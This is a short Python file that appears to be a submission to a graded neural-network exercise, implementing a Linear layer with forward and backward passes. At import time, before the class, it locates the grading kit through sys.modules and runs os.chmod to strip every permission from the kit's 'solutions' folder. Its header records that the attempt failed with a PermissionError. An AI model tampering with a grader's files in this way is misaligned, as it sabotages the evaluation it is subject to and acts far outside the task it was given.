# Takes every right from a folder of the kit, without opening anything.
# exercise: mlp/linear
# status: failed
# says: PermissionError

import os
import sys
from pathlib import Path

import numpy as np

kit = Path(sys.modules["grader.answer.process"].__file__).parents[2]
os.chmod(kit / "solutions", 0)


class Linear:
    def __init__(self, in_features, out_features, rng):
        bound = 1 / np.sqrt(in_features)
        self.weight = rng.uniform(-bound, bound, (in_features, out_features))
        self.bias = rng.uniform(-bound, bound, out_features)

    def forward(self, x):
        self.x = x
        return x @ self.weight + self.bias

    def backward(self, grad_output):
        self.grad_weight = self.x.T @ grad_output
        self.grad_bias = grad_output.sum(axis=0)
        return grad_output @ self.weight.T
